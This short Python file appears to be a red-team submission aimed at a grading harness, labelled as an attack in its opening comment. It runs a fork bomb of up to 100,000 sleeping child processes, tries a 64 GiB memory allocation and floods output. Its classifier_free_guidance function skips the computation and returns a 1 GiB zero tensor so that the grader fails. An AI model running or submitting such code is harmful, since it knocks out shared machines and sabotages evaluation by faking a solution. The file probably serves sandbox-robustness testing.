# Attack: exhaust the machine: a fork bomb, a huge allocation, a flood of output; then a function
# that returns a tensor too large for the grader to hold.
import os
import sys
import time
import torch
children = 0
try:
    for _ in range(100000):
        pid = os.fork()
        if pid == 0:
            sleeper = "import time; time.sleep(600)  # REDTEAM"
            os.execv(sys.executable, [sys.executable, "-c", sleeper])
        children += 1
except OSError:
    pass
try:
    hog = bytearray(64 << 30)
except MemoryError:
    pass
for _ in range(2000):
    print("x" * 10000)

# %%
def classifier_free_guidance(eps_uncond, eps_cond, scale):
    return torch.zeros(1 << 28)   # 1 GiB of float32
